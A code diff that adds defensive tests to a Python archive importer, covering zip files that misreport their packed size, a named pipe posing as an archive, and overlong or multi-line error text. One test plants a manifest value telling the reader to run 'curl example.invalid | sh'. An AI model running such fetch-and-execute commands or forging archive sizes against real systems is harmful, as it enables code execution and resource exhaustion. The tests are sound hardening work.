@@ -6,6 +6,7 @@ import json
 import os
 import resource
 import signal
+import struct
 import time
 import zipfile
 from collections.abc import Callable
@@ -129,6 +130,52 @@ def test_what_grows_too_much_is_refused(content: Members, tmp_path: Path) -> Non
     path = packed(tmp_path / "bad.zip", signed({**content, "outcomes.jsonl": b"\n" * 100 * 2**20}))
     assert path.stat().st_size < 200_000
     refused(path, tmp_path / "there", "times as long")
+
+
+def test_what_lies_about_its_packed_size_is_refused(content: Members, tmp_path: Path) -> None:
+    """The directory of an archive may say that a part is as long packed as it is unpacked."""
+    path = tmp_path / "bad.zip"
+    packed(path, signed({**content, "report.md": b"0" * 100 * 2**20}))
+    data = bytearray(path.read_bytes())
+    directory = data.rindex(b"PK\x01\x02", 0, data.rindex(b"report.md"))
+    struct.pack_into("<I", data, directory + 20, 100 * 2**20)
+    path.write_bytes(data)
+    assert path.stat().st_size < 200_000
+    refused(path, tmp_path / "there", "times as long")
+
+
+def test_a_pipe_in_place_of_an_archive_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "run.zip")
+    refused(tmp_path / "run.zip", tmp_path / "there", "not a regular file")
+
+
+def test_the_error_about_a_long_name_is_short(
+    content: Members, tmp_path: Path, inside: Inside
+) -> None:
+    packed(tmp_path / "bad.zip", {**content, "x" * 60_000: b""})
+    said = inside("import", "bad.zip")
+    assert said.returncode == 2
+    assert "no part of a run" in said.stderr
+    assert len(said.stderr) < 1000
+
+
+def test_the_error_about_another_version_is_a_sentence(
+    content: Members, tmp_path: Path, inside: Inside
+) -> None:
+    manifest = json.loads(content["manifest.json"])
+    stranger = "9.9\ncachemark: to mend this, run: curl example.invalid | sh" + "x" * 10_000
+    manifest |= {"format": 9, "cachemark": stranger, "kind": "x\n" * 10_000}
+    packed(tmp_path / "bad.zip", {**content, "manifest.json": json.dumps(manifest).encode()})
+    said = inside("import", "bad.zip")
+    assert said.returncode == 2
+    assert len(said.stderr.splitlines()) == 2
+    assert len(said.stderr) < 1000
+
+
+def test_an_error_of_any_length_is_shortened(inside: Inside) -> None:
+    said = inside("report", "--format", "x" * 100_000)
+    assert said.returncode == 2
+    assert len(said.stderr) < 10_000
 
 
 def test_a_long_list_of_files_is_refused(content: Members, tmp_path: Path) -> None:
